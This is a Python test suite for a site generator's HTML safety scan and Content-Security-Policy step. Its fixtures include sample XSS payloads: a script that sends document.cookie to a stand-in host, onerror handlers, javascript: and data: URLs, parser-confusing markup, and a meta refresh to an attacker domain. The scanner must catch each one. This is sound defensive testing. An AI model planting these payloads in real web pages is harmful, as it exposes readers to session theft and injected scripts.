"""The post-build scan of the HTML (`python -m generator sitecheck`) and the Content-Security-Policy it adds."""

from __future__ import annotations

import base64
import hashlib
import re
import shutil
from pathlib import Path

import pytest
from conftest import Run, run_cli

from generator.postbuild.csp import add_csp, policy_for
from generator.postbuild.sitecheck import UNPLACED, check_page, check_site, parse_page, quick_parse

HANDLER = "inline handlers are not allowed (the Content-Security-Policy would block them)"
ALLOWED = ("the theme's bundle under assets/javascripts/, assets/javascripts/referral.js and "
           "assets/javascripts/search.js")


def page(body: str, *, head: str = "") -> str:
    """A small page shaped like the theme's: the body starts on line 8."""
    return ("<!doctype html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Fixture</title>\n"
            f"{head}</head>\n<body>\n{body}\n</body>\n</html>\n")


def sitecheck(site: Path, *extra: str) -> Run:
    return run_cli("sitecheck", str(site), *extra)


def write(site: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        (site / name).parent.mkdir(parents=True, exist_ok=True)
        (site / name).write_text(text, encoding="utf-8")
    return site


def test_a_page_with_img_onerror_fails_the_scan(tmp_path: Path) -> None:
    site = write(tmp_path / "site", {
        "index.html": page("<p>Fine.</p>"),
        "specialisms/index.html": page('<p>Chair <img src="chair.png" alt="" onerror="alert(1)"></p>'),
    })
    proc = sitecheck(site)
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [
        f"{site}/specialisms/index.html:8:10: 'onerror' event-handler attribute on <img>; {HANDLER}",
        "1 error(s), 0 warning(s)",
        f"sitecheck: {site} has unsafe output; nothing changed",
    ]


def test_every_unsafe_construct_in_every_page_is_reported_at_once(tmp_path: Path) -> None:
    site = write(tmp_path / "site", {
        "a/index.html": page(
            '<script src="https://cdn.example.org/analytics.js"></script>\n'
            "<script>fetch('https://x.example/?c=' + document.cookie)</script>\n"
            '<a href=" JavaScript:alert(1)">x</a> <button onclick="go()">Go</button>\n'
            '<iframe src="https://x.example/"></iframe>\n'
            '<script src="../elsewhere/referral.js"></script>\n'
            '<script type="text/template" id="tpl">x</script>'
        ),
        "b/index.html": page('<svg><a xlink:href="vbscript:x">x</a></svg>', head='<base href="https://x.example/">\n'),
    })
    lines = sitecheck(site).stderr.splitlines()
    digest = hashlib.sha256(b"fetch('https://x.example/?c=' + document.cookie)").hexdigest()
    assert lines[:-2] == [
        f"{site}/a/index.html:8:1: script 'https://cdn.example.org/analytics.js' is not on the allow-list ({ALLOWED})",
        f"{site}/a/index.html:9:1: inline script is not on the allow-list: 'fetch('https://x.example/?c=' + "
        "document.cookie)'; if it is the theme's own after an upgrade, review it and add "
        f"'{digest}' "
        "to THEME_INLINE_SCRIPTS in generator/postbuild/sitecheck.py",
        f"{site}/a/index.html:10:1: 'javascript:' URL in the 'href' attribute of <a>",
        f"{site}/a/index.html:10:38: 'onclick' event-handler attribute on <button>; {HANDLER}",
        f"{site}/a/index.html:11:1: <iframe> is not allowed in the built site",
        f"{site}/a/index.html:12:1: script '../elsewhere/referral.js' is not on the allow-list ({ALLOWED})",
        f"{site}/a/index.html:13:1: script data block (type 'text/template', id 'tpl') is not one the theme writes",
        f"{site}/b/index.html:6:1: <base> is not allowed in the built site",
        f"{site}/b/index.html:9:6: 'vbscript:' URL in the 'xlink:href' attribute of <a>",
    ]


def test_a_data_url_in_an_attribute_that_navigates_or_loads_fails_the_scan(tmp_path: Path) -> None:
    """A `data:` URL opens or loads a document the site never checked; the shipped site uses none. In any other
    attribute (a title, a policy) the words 'data:' are text."""
    site = write(tmp_path / "site", {"index.html": page(
        '<p><a href="data:text/html,hi">c</a> <img src=" DATA:image/svg+xml,x" alt=""></p>\n'
        '<form action="data:text/html,x"><button formaction="data:,x">Go</button></form>\n'
        '<svg><use xlink:href="data:image/svg+xml,x"/></svg><img srcset="a.png 1x, data:image/png;base64,AA 2x">\n'
        '<p title="data: what the OT records">Fine.</p>'
    )})
    proc = sitecheck(site)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[:-2] == [
        f"{site}/index.html:8:4: 'data:' URL in the 'href' attribute of <a>",
        f"{site}/index.html:8:38: 'data:' URL in the 'src' attribute of <img>",
        f"{site}/index.html:9:1: 'data:' URL in the 'action' attribute of <form>",
        f"{site}/index.html:9:33: 'data:' URL in the 'formaction' attribute of <button>",
        f"{site}/index.html:10:6: 'data:' URL in the 'xlink:href' attribute of <use>",
        f"{site}/index.html:10:52: 'data:' URL in the 'srcset' attribute of <img>",
    ]


def test_each_value_an_svg_animation_gives_a_link_is_checked(tmp_path: Path) -> None:
    """`values` is a ';'-separated list, each item a value the animated attribute takes in turn: a script URL
    anywhere in it is found, as is one in `to`, `from` or `by`."""
    site = write(tmp_path / "site", {"index.html": page(
        '<svg><a><animate attributeName="href" values="https://example.org/;javascript:alert(1)" dur="1s" '
        'fill="freeze"/><text y="20">click</text></a>\n'
        '<a><set attributeName="href" to=" data:text/html,hi"/><animate attributeName="href" from="#a" '
        'by="javascript:alert(2)"/></a>\n'
        '<rect><animate attributeName="opacity" values="0;1;0" dur="2s"/></rect></svg>'
    )})
    proc = sitecheck(site)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[:-2] == [
        f"{site}/index.html:8:9: 'javascript:' URL in the 'values' attribute of <animate>",
        f"{site}/index.html:9:4: 'data:' URL in the 'to' attribute of <set>",
        f"{site}/index.html:9:55: 'javascript:' URL in the 'by' attribute of <animate>",
    ]


def test_allowed_scripts_pass(tmp_path: Path) -> None:
    site = write(tmp_path / "site", {
        "sitemap.xml": '<?xml version="1.0" encoding="UTF-8"?>\n<urlset xmlns="http://www.sitemaps.org/schemas/'
                       'sitemap/0.9"><url><loc>https://ot-practice.github.io/knowledge-base/</loc></url></urlset>\n',
        "referral/flow/index.html": page(
            '<script id="__config" type="application/json">{"base": "../.."}</script>\n'
            '<script src="../../assets/javascripts/bundle.a5f9d56c.min.js"></script>\n'
            '<script src="../../assets/javascripts/referral.js"></script>'
        ),
        "404.html": page('<script src="/knowledge-base/assets/javascripts/bundle.a5f9d56c.min.js"></script>'),
    })
    proc = sitecheck(site)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "site OK: 2 pages checked\n"
    assert check_site(site, base_path="/").errors[0].message.startswith(
        "script '/knowledge-base/assets/javascripts/bundle.a5f9d56c.min.js' is not on the allow-list")


def test_the_theme_inline_scripts_are_allowed_at_every_depth(built_site: Path) -> None:
    pages = [built_site / "index.html", built_site / "referral/case-manager-referral/step/index.html"]
    for path in pages:
        parsed = check_page(path.read_text(encoding="utf-8"), path.relative_to(built_site).as_posix())
        assert parsed.findings == [], path
        assert len([s for s in parsed.scripts if s.src is None and s.executable]) == 3


def test_the_shipped_site_passes_and_gets_a_policy_on_every_page(built_site: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    shutil.copytree(built_site, site)
    proc = sitecheck(site, "--csp")
    assert proc.returncode == 0, proc.stderr
    pages = sorted(site.rglob("*.html"))
    assert proc.stdout == f"site OK: {len(pages)} pages checked; Content-Security-Policy added to each\n"
    for path in pages:
        text = path.read_text(encoding="utf-8")
        head = re.search(r"<head>\s*(<[^>]*>)", text)
        assert head and head.group(1).startswith('<meta http-equiv="Content-Security-Policy" content="'), path
        inline = [s.text for s in parse_page(text).scripts if s.src is None and s.executable]
        for script in inline:
            digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
            assert f"'sha256-{digest}'" in head.group(1), path
        # The character set must still be declared within the first 1024 bytes.
        assert text.encode().find(b'<meta charset="utf-8">') < 1024 - len('<meta charset="utf-8">'), path
    # Running it again changes nothing: the policy is replaced, not added twice.
    before = {p: p.read_bytes() for p in pages}
    assert sitecheck(site, "--csp").returncode == 0
    assert {p: p.read_bytes() for p in pages} == before


def test_an_inline_script_gets_its_hash() -> None:
    # The example from the CSP Level 3 specification: this script's sha256 is qznLcsROx4G....
    text = page("<script>alert('Hello, world.');</script>")
    out = add_csp(text)
    assert out == text.replace(
        "<head>\n",
        "<head>"
        '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'; script-src \'self\' '
        "'sha256-qznLcsROx4GACP2dm0UCKCzCG+HiZ1guq6ZZDob/Tng='; style-src 'self' 'unsafe-inline'; "
        "img-src 'self' data:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'self'; "
        "form-action 'self'\">\n",
    )


def test_the_policy_hashes_only_what_runs_and_matches_what_the_browser_hashes() -> None:
    text = page(
        '<script src="assets/javascripts/referral.js"></script>\n'
        '<script id="__config" type="application/json">{"a": 1}</script>\n'
        "<script>b()\r\n</script><script type=module>b()\n</script>"
    )
    expected = "'sha256-" + base64.b64encode(hashlib.sha256(b"b()\n").digest()).decode() + "'"
    assert policy_for(text).split("; ")[1] == f"script-src 'self' {expected}"


def test_an_existing_policy_is_replaced() -> None:
    once = add_csp(page("<p>x</p>", head='<meta http-equiv="content-security-policy" content="default-src *">\n'))
    assert "default-src *" not in once
    assert once.count("Content-Security-Policy") == 1
    assert add_csp(once) == once


def test_a_failing_scan_writes_no_policy(tmp_path: Path) -> None:
    site = write(tmp_path / "site", {"index.html": page("<p>x</p>"), "bad.html": page("<p onmouseover=x()>x</p>")})
    before = {p: p.read_bytes() for p in site.rglob("*")}
    assert sitecheck(site, "--csp").returncode == 1
    assert {p: p.read_bytes() for p in site.rglob("*")} == before


@pytest.mark.parametrize("bad", ["<html><body>no head</body></html>"])
def test_a_page_without_a_head_cannot_take_a_policy(tmp_path: Path, bad: str) -> None:
    site = write(tmp_path / "site", {"index.html": page("<p>x</p>"), "fragment.html": bad})
    proc = sitecheck(site, "--csp")
    assert proc.returncode == 1
    assert proc.stderr == f"{site}/fragment.html:1:1: no <head> to hold the Content-Security-Policy\n"


def test_the_fast_parser_reads_every_shipped_page_as_the_tokenizer_does(built_site: Path) -> None:
    """lexbor (`quick_parse`) finds the same <head> and the same scripts, with the same text to hash, as
    `html.parser` on every page it reads alone; only the editor page, with its own policy in a <meta>, is left
    to the tokenizer."""
    alone = []
    for path in sorted(built_site.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        quick, full = quick_parse(text), parse_page(text)
        if quick is None:
            continue
        alone.append(path)
        assert quick.head == full.head, path
        assert [(s.attrs, s.text) for s in quick.scripts] == [(s.attrs, s.text) for s in full.scripts], path
        assert not quick.findings and not full.findings, path
    assert sorted(set(built_site.rglob("*.html")) - set(alone)) == [built_site / "admin" / "index.html"]


@pytest.mark.parametrize("markup", ["<!--><img src=x onerror=alert(1)>-->",
                                    "<math><style><img src=x onerror=alert(1)></style></math>"])
def test_a_handler_only_a_browser_reads_as_a_tag_still_fails_the_scan(tmp_path: Path, markup: str) -> None:
    """The standard library's tokenizer reads these as a comment and as style text; browsers (and lexbor) read an
    <img> with a handler. The scan fails, at the page's start since only the tokenizer knows places."""
    assert not parse_page(page(markup)).findings
    site = write(tmp_path / "site", {"index.html": page(markup)})
    proc = sitecheck(site)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[0] == (f"{site}/index.html:1:1: 'onerror' event-handler attribute on <img>; "
                                           f"{HANDLER} ({UNPLACED})")


def test_a_page_lexbor_reads_differently_is_left_to_the_tokenizer() -> None:
    """A <template> (whose contents lexbor keeps out of its tree), a <noscript>, a <meta http-equiv> or a page that
    does not start with <head> is parsed by the tokenizer alone, which still finds what is in it."""
    for text in [page('<template><img src=x onerror="alert(1)"></template>'),
                 page("<noscript><p>No scripts</p></noscript>"),
                 page("", head='<meta http-equiv="refresh" content="0">\n'),
                 "<p>before</p>" + page("")]:
        assert quick_parse(text) is None, text
    assert [m for _, _, m in check_page(page('<template><img onerror="x"></template>'), "a.html").findings] == [
        f"'onerror' event-handler attribute on <img>; {HANDLER}"]


def test_a_load_from_another_site_fails_the_scan(tmp_path: Path) -> None:
    """Whatever got past the content check, no page may fetch an image, a style or an icon from another site as it
    loads (the reader's browser would tell that site who reads the page); a link the reader follows may lead
    anywhere, and the canonical address is the site's own."""
    site = write(tmp_path / "site", {
        "index.html": page('<img alt="a [b] c" src="https://evil1.example/x.png">\n'
                           '<img alt="" srcset="a.png 1x, //evil2.example/x.png 2x">\n'
                           '<svg><image href="\\/evil3.example/x.png"></image></svg>\n'
                           '<a href="https://www.rcot.co.uk/" ping="https://evil4.example/p">RCOT</a>\n'
                           '<a href="https://www.rcot.co.uk/">RCOT</a> <img alt="" src="../assets/x.png">',
                           head='<link rel="stylesheet" href="https://evil5.example/a.css">\n'
                                '<link rel="canonical" href="https://kb.example.org/">\n'),
    })
    proc = sitecheck(site)
    assert proc.returncode == 1
    loads = [line.split(" loads '")[1].split("'")[0] for line in proc.stderr.splitlines() if " loads '" in line]
    assert loads == ["https://evil5.example/a.css", "https://evil1.example/x.png", "//evil2.example/x.png",
                     "\\/evil3.example/x.png", "https://evil4.example/p"], proc.stderr


def test_a_refresh_to_another_site_fails_the_scan(tmp_path: Path) -> None:
    """A description that broke out of its attribute made a refresh to another site, which browsers follow. A
    refresh to a page of this site (a moved step's old address) passes; an http-equiv the site never writes fails."""
    site = write(tmp_path / "site", {
        "index.html": page("", head='<meta name="description" content="0;url=https://evil.example/" x\'y '
                                    'http-equiv=refresh z="">\n'),
        "a/index.html": page("", head="<meta http-equiv=REFRESH content=\"0; URL='\\\\evil.example/'\">\n"
                                      '<meta http-equiv="refresh" content="5,/\t/evil.example/">\n'
                                      '<meta http-equiv="set-cookie" content="a=b">\n'),
        "moved/index.html": page("", head='<meta http-equiv="refresh" content="0; url=../step/home/">\n'),
        "b/index.html": page('<!--><meta http-equiv="refresh" content="0;url=//evil.example/">-->'),
    })
    proc = sitecheck(site)
    assert proc.returncode == 1
    assert proc.stderr.splitlines()[:-2] == [
        f"{site}/a/index.html:6:1: <meta http-equiv=\"refresh\"> leads to another site ('\\\\evil.example/'); a "
        "refresh may only lead to a page of this site, by a relative address",
        f"{site}/a/index.html:7:1: <meta http-equiv=\"refresh\"> leads to another site ('//evil.example/'); a "
        "refresh may only lead to a page of this site, by a relative address",
        f"{site}/a/index.html:8:1: <meta http-equiv=\"set-cookie\"> is not one the site writes (only a refresh to a "
        "page of this site and a Content-Security-Policy)",
        f"{site}/b/index.html:1:1: <meta http-equiv=\"refresh\"> leads to another site ('//evil.example/'); a "
        f"refresh may only lead to a page of this site, by a relative address ({UNPLACED})",
        f"{site}/index.html:6:1: <meta http-equiv=\"refresh\"> leads to another site ('https://evil.example/'); a "
        "refresh may only lead to a page of this site, by a relative address",
    ]
